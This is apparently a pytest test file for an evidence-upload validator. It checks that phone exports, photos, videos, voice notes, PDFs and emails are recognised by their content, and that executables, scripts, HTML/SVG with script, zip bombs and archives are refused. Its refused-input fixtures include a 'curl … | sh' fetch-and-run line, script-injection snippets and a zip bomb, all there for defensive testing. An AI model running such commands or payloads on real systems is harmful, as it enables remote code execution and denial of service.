"""What phones produce is accepted by its content, whatever it is called; programs, pages and archives are not."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.domain.evidence_formats import ALLOWED_TYPES, HEAD_BYTES, detect_type, download_name, is_text, text_checker


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    """An ISO base media file's first box (as MP4, MOV, M4A, HEIC and 3GP files start), then an mdat box."""
    body = major + b"\x00\x00\x02\x00" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + struct.pack(">I", 16) + b"mdat" + b"\x00" * 8


# Real headers, as the named phone or app writes them.
SAMPLES = {
    # WhatsApp "Export chat" on Android (UTF-8, emoji, no BOM).
    "whatsapp-android.txt": ("12/03/2024, 21:14 - Dan: Where are you? I can see your car 🚗\n"
                             "12/03/2024, 21:15 - Dan: <Media omitted>\n"
                             "12/03/2024, 21:16 - Sam: Please stop messaging me\n").encode(),
    # WhatsApp on iPhone: a left-to-right mark before each bracketed time stamp.
    "whatsapp-iphone.txt": ("\u200e[12/03/2024, 21:14:03] Dan: You can't hide from me\n"
                            "[12/03/2024, 21:14:09] Dan: ‎image omitted\n").encode(),
    # Notepad on Windows: UTF-8 with a byte order mark, CRLF line ends.
    "notes-bom.txt": b"\xef\xbb\xbfDiary of what happened\r\n3 March: he was outside work\r\n",
    # An older Windows text file in cp1252 (curly apostrophe 0x92).
    "notes-cp1252.txt": b"He said he\x92d be waiting. I didn\x92t reply.\r\n",
    # UTF-16 as some Windows tools save text.
    "notes-utf16.txt": "Diary: he followed me home again\r\n".encode("utf-16"),
    "photo-iphone.heic": ftyp(b"heic", b"mif1", b"heic"),
    "photo-android.heif": ftyp(b"mif1", b"mif1"),
    "photo-samsung.heic": ftyp(b"mif1", b"mif1", b"heic", b"miaf"),
    "video-android.mp4": ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41"),
    "video-android-mp42.mp4": ftyp(b"mp42", b"isom", b"mp42"),
    "video-iphone.mov": ftyp(b"qt  ", b"qt  "),
    # Older QuickTime: no ftyp box, straight into a 'wide' then 'mdat' atom.
    "video-old.mov": struct.pack(">I", 8) + b"wide" + struct.pack(">I", 16) + b"mdat" + b"\x00" * 8,
    "voice-note-iphone.m4a": ftyp(b"M4A ", b"M4A ", b"mp42", b"isom"),
    "voice-note-android.3gp": ftyp(b"3gp4", b"isom", b"3gp4"),
    "voice-note-whatsapp.opus": b"OggS\x00\x02" + b"\x00" * 20 + b"\x01\x13OpusHead" + b"\x00" * 20,
    "voice-recorder.amr": b"#!AMR\n" + b"\x3c" * 40,
    "screenshot.png": bytes.fromhex("89504e470d0a1a0a0000000d4948445200000438000009240806000000") + b"\x00" * 32,
    "photo-android.jpg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32,
    "photo-iphone.jpg": b"\xff\xd8\xff\xe1\x0c\x4eExif\x00\x00MM\x00*" + b"\x00" * 32,
    "letter.pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
    "saved.eml": (b"Received: from mail.example.com by mx.example.net; Tue, 3 Mar 2026 21:14:03 +0000\r\n"
                  b"From: Dan <dan@example.com>\r\nTo: sam@example.net\r\nSubject: I know where you are\r\n"
                  b"MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee you soon.\r\n"),
}
EXPECTED = {
    "whatsapp-android.txt": "text/plain", "whatsapp-iphone.txt": "text/plain", "notes-bom.txt": "text/plain",
    "notes-cp1252.txt": "text/plain", "notes-utf16.txt": "text/plain",
    "photo-iphone.heic": "image/heic", "photo-android.heif": "image/heif", "photo-samsung.heic": "image/heic",
    "video-android.mp4": "video/mp4", "video-android-mp42.mp4": "video/mp4", "video-iphone.mov": "video/quicktime",
    "video-old.mov": "video/quicktime", "voice-note-iphone.m4a": "audio/mp4", "voice-note-android.3gp": "video/3gpp",
    "voice-note-whatsapp.opus": "audio/ogg", "voice-recorder.amr": "audio/amr",
    "screenshot.png": "image/png", "photo-android.jpg": "image/jpeg", "photo-iphone.jpg": "image/jpeg",
    "letter.pdf": "application/pdf", "saved.eml": "message/rfc822",
}


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


REFUSED = {
    "windows program": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48,
    "linux program": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    "shell script": b"#!/bin/sh\ncurl http://example.invalid/x | sh\n",
    "web page": b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>",
    "web page after blank lines": b"\n\n   <html><script>document.location='//x'</script></html>",
    "svg with script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "svg with xml declaration": b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
    "zip bomb": _zip({"bomb.txt": b"\x00" * 5_000_000}),
    "whatsapp export with media (zip)": _zip({"_chat.txt": SAMPLES["whatsapp-android.txt"]}),
    "word document (zip)": _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
    "gzip": gzip.compress(b"hello" * 100),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40,
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40,
    "binary junk": bytes(range(256)),
    "unknown iso media brand": ftyp(b"crx ", b"crx "),
    "empty": b"",
}


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_what_phones_make_is_accepted_by_content(name):
    assert detect_type(SAMPLES[name]) == EXPECTED[name]


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_the_file_name_plays_no_part(name):
    # The same bytes under any name are the same type; detect_type never sees the name at all.
    assert detect_type(SAMPLES[name][:HEAD_BYTES]) in ALLOWED_TYPES


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_programs_pages_and_archives_are_refused(name):
    assert detect_type(REFUSED[name][:HEAD_BYTES]) is None


def test_an_email_needs_headers_at_its_start():
    # Text that merely mentions "From:" further down is a text file, not an email.
    assert detect_type(b"Notes\nFrom: Dan\nTo: me\n") == "text/plain"
    assert detect_type(b"From: Dan <d@example.com>\nTo: me@example.com\n\nHi") == "message/rfc822"


def test_text_checks_apply_to_every_chunk():
    assert is_text("Dan: see you 🙂\r\n\tok\x0c".encode())
    assert not is_text(b"chat\x00\x01\x02")  # a program appended after a text head
    assert text_checker("image/png", b"\x89PNG") is None
    check = text_checker("text/plain", b"chat")
    assert check is not None and check(b"more chat") and not check(b"MZ\x90\x00")


def test_utf16_text_is_checked_as_decoded_even_across_chunks():
    encoded = "Diary 🙂 ".encode("utf-16") * 3
    check = text_checker("text/plain", encoded)
    assert check is not None
    cut = 2 + 8 * 2 + 1  # the middle of the emoji's surrogate pair, and an odd byte
    assert check(encoded[:cut]) and check(encoded[cut:])
    program = text_checker("text/plain", encoded)
    # A Windows program read as UTF-16 has NUL characters all over it.
    assert program is not None and program(encoded[:20]) and not program(REFUSED["windows program"])


@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=2000))
def test_any_written_words_are_text_unless_they_start_as_markup_or_a_script(words):
    found = detect_type(words.encode("utf-8"))
    if words.lstrip().startswith(("<", "#!")):
        assert found is None
    else:
        assert found in {"text/plain", "message/rfc822"}


@given(st.binary(min_size=1, max_size=4096))
def test_any_bytes_get_an_accepted_type_or_none(data):
    assert detect_type(data) in ALLOWED_TYPES | {None}


@pytest.mark.parametrize(("original", "content_type", "expected"), [
    ("IMG_0001.HEIC", "image/heic", "IMG_0001.HEIC"),
    ("WhatsApp Chat with Dan.txt", "text/plain", "WhatsApp Chat with Dan.txt"),
    ("run.bat", "text/plain", "run.bat.txt"),
    ("invoice.pdf.exe", "application/pdf", "invoice.pdf.exe.pdf"),
    ("photo", "image/jpeg", "photo.jpg"),
    ("Voice 001.m4a", "audio/mp4", "Voice 001.m4a"),
    ("clip.MOV", "video/quicktime", "clip.MOV"),
    (".txt", "text/plain", ".txt.txt"),
    ("", "image/png", "evidence.png"),
])
def test_a_download_is_named_for_what_it_really_is(original, content_type, expected):
    assert download_name(original, content_type) == expected
